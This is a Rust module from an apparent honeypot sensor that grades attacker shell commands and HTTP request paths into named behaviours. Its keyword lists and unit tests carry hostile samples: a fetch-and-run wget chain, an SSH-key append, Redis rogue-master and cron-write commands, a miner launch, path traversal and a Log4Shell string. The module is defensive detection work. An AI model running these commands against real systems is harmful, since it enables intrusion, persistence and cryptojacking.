//! Behaviour and primitive rules: how sensor events become named, graded
//! observations. Documented in `docs/scoring.md` and `docs/sensors.md`;
//! every name here is stable.

use super::threat::Severity;

/// A named behaviour with its severity and description.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Rule {
    pub name: &'static str,
    pub severity: Severity,
    pub description: &'static str,
}

/// Every behaviour sikker derives.
pub const BEHAVIORS: &[Rule] = &[
    Rule {
        name: "port_scan",
        severity: Severity::Low,
        description: "Connections to many ports or services without further interaction",
    },
    Rule {
        name: "credential_brute_force",
        severity: Severity::High,
        description: "Ten or more login attempts",
    },
    Rule {
        name: "credential_stuffing",
        severity: Severity::High,
        description: "The same credential pair tried in several sessions or against several sensors",
    },
    Rule {
        name: "web_scan",
        severity: Severity::Medium,
        description: "Requests for well-known sensitive paths (admin panels, backups, configuration files)",
    },
    Rule {
        name: "exploit_attempt",
        severity: Severity::High,
        description: "Requests or commands matching known exploit patterns",
    },
    Rule {
        name: "malware_download",
        severity: Severity::VeryHigh,
        description: "Commands that fetch and run remote payloads",
    },
    Rule {
        name: "cryptominer_deploy",
        severity: Severity::VeryHigh,
        description: "Commands that install or start a cryptocurrency miner",
    },
    Rule {
        name: "persistence_attempt",
        severity: Severity::High,
        description: "Commands that add SSH keys, cron jobs or services",
    },
    Rule {
        name: "spam_relay",
        severity: Severity::Medium,
        description: "Attempts to relay e-mail through a sensor",
    },
    Rule {
        name: "recon",
        severity: Severity::Low,
        description: "System reconnaissance commands after login",
    },
];

/// Primitives: fine-grained command and request patterns.
pub const PRIMITIVES: &[(&str, &str)] = &[
    ("uname_recon", "uname or /proc/version inspection"),
    (
        "cpu_recon",
        "CPU or memory inspection (/proc/cpuinfo, nproc, free)",
    ),
    ("user_recon", "whoami, id, w or /etc/passwd inspection"),
    ("download", "wget, curl or tftp fetching a remote file"),
    ("chmod_exec", "making a file executable"),
    ("ssh_key_write", "writing to authorized_keys"),
    ("cron_write", "editing crontab"),
    ("history_wipe", "clearing shell history or logs"),
    (
        "env_file_probe",
        "requesting /.env or similar configuration files",
    ),
    ("admin_panel_probe", "requesting admin or login panels"),
    ("path_traversal", "../ sequences in a request path"),
    ("jndi_injection", "a ${jndi:...} string (Log4Shell)"),
    ("shell_injection", "shell metacharacters in a request path"),
    (
        "redis_config_write",
        "Redis CONFIG SET dir/dbfilename (writing files through the database)",
    ),
    (
        "redis_rogue_master",
        "Redis SLAVEOF/REPLICAOF or MODULE LOAD (loading code from a rogue server)",
    ),
];

pub fn rule(name: &str) -> Option<&'static Rule> {
    BEHAVIORS.iter().find(|r| r.name == name)
}

pub fn primitive_description(name: &str) -> Option<&'static str> {
    PRIMITIVES.iter().find(|(n, _)| *n == name).map(|(_, d)| *d)
}

/// What one command or request path reveals.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Findings {
    pub behaviors: Vec<&'static str>,
    pub primitives: Vec<&'static str>,
}

impl Findings {
    fn add(&mut self, behavior: Option<&'static str>, primitive: Option<&'static str>) {
        if let Some(b) = behavior.filter(|b| !self.behaviors.contains(b)) {
            self.behaviors.push(b);
        }
        if let Some(p) = primitive.filter(|p| !self.primitives.contains(p)) {
            self.primitives.push(p);
        }
    }
}

/// Classifies a shell command typed into a sensor.
pub fn classify_command(cmd: &str) -> Findings {
    let c = cmd.to_ascii_lowercase();
    let has = |needles: &[&str]| needles.iter().any(|n| c.contains(n));
    let mut f = Findings::default();
    if has(&["uname", "/proc/version"]) {
        f.add(Some("recon"), Some("uname_recon"));
    }
    if has(&["/proc/cpuinfo", "nproc", "free -m", "lscpu"]) {
        f.add(Some("recon"), Some("cpu_recon"));
    }
    if has(&["whoami", "/etc/passwd", " id", "w;"]) || c == "id" || c == "w" {
        f.add(Some("recon"), Some("user_recon"));
    }
    let downloads = has(&["wget ", "curl ", "tftp ", "ftpget "]);
    if downloads {
        f.add(None, Some("download"));
    }
    let executes = has(&[
        "chmod +x",
        "chmod 777",
        "chmod 755",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "./",
    ]);
    if has(&["chmod +x", "chmod 777", "chmod 755"]) {
        f.add(None, Some("chmod_exec"));
    }
    if downloads && executes {
        f.add(Some("malware_download"), None);
    }
    if has(&["xmrig", "minerd", "stratum+tcp", "cryptonight", "nicehash"]) {
        f.add(Some("cryptominer_deploy"), None);
    }
    if has(&["authorized_keys"]) {
        f.add(Some("persistence_attempt"), Some("ssh_key_write"));
    }
    if has(&["config set dir", "config set dbfilename"]) {
        f.add(None, Some("redis_config_write"));
    }
    if has(&["slaveof ", "replicaof ", "module load"]) {
        f.add(Some("exploit_attempt"), Some("redis_rogue_master"));
    }
    if has(&["crontab", "/etc/cron", "/var/spool/cron"]) {
        f.add(Some("persistence_attempt"), Some("cron_write"));
    }
    if has(&[
        "history -c",
        "unset histfile",
        "rm -rf /var/log",
        "> ~/.bash_history",
    ]) {
        f.add(None, Some("history_wipe"));
    }
    f
}

/// Classifies an HTTP request path (and query) sent to a sensor.
pub fn classify_http_path(path: &str) -> Findings {
    let p = path.to_ascii_lowercase();
    let has = |needles: &[&str]| needles.iter().any(|n| p.contains(n));
    let mut f = Findings::default();
    if has(&[
        "/.env",
        "/.git/",
        "/config.json",
        "/wp-config",
        "/.aws/",
        "/backup",
        ".sql",
    ]) {
        f.add(Some("web_scan"), Some("env_file_probe"));
    }
    if has(&[
        "/wp-login",
        "/wp-admin",
        "/phpmyadmin",
        "/admin",
        "/manager/html",
        "/boaform",
        "/login.cgi",
    ]) {
        f.add(Some("web_scan"), Some("admin_panel_probe"));
    }
    if has(&["../", "..%2f", "%2e%2e/"]) {
        f.add(Some("exploit_attempt"), Some("path_traversal"));
    }
    if has(&["${jndi:", "%24%7bjndi"]) {
        f.add(Some("exploit_attempt"), Some("jndi_injection"));
    }
    if has(&[
        ";wget",
        ";curl",
        "$(",
        "`",
        "|sh",
        "cgi-bin/",
        "/shell?",
        "/setup.cgi",
        "/hnap1",
    ]) {
        f.add(Some("exploit_attempt"), Some("shell_injection"));
    }
    f
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands() {
        let f = classify_command("cd /tmp; wget http://x/y.sh; chmod +x y.sh; ./y.sh");
        assert!(f.behaviors.contains(&"malware_download"));
        assert!(f.primitives.contains(&"download") && f.primitives.contains(&"chmod_exec"));
        assert_eq!(classify_command("uname -a").primitives, vec!["uname_recon"]);
        assert!(
            classify_command("echo ssh-rsa AAA >> ~/.ssh/authorized_keys")
                .behaviors
                .contains(&"persistence_attempt")
        );
        assert!(classify_command("ls").behaviors.is_empty());
        let f = classify_command("CONFIG SET dir /var/spool/cron/crontabs");
        assert!(
            f.primitives.contains(&"redis_config_write") && f.primitives.contains(&"cron_write")
        );
        assert!(
            classify_command("SLAVEOF 11.0.0.1 8886")
                .behaviors
                .contains(&"exploit_attempt")
        );
        assert!(
            classify_command("./xmrig -o stratum+tcp://pool")
                .behaviors
                .contains(&"cryptominer_deploy")
        );
    }

    #[test]
    fn http_paths() {
        assert!(classify_http_path("/.env").behaviors.contains(&"web_scan"));
        assert!(
            classify_http_path("/cgi-bin/../../etc/passwd")
                .behaviors
                .contains(&"exploit_attempt")
        );
        assert!(
            classify_http_path("/?x=${jndi:ldap://a/b}")
                .primitives
                .contains(&"jndi_injection")
        );
        assert!(classify_http_path("/index.html").behaviors.is_empty());
    }

    #[test]
    fn every_name_is_described() {
        for name in [
            "port_scan",
            "credential_brute_force",
            "credential_stuffing",
            "malware_download",
        ] {
            assert!(rule(name).is_some());
        }
        for (n, _) in PRIMITIVES {
            assert!(primitive_description(n).is_some());
        }
    }
}
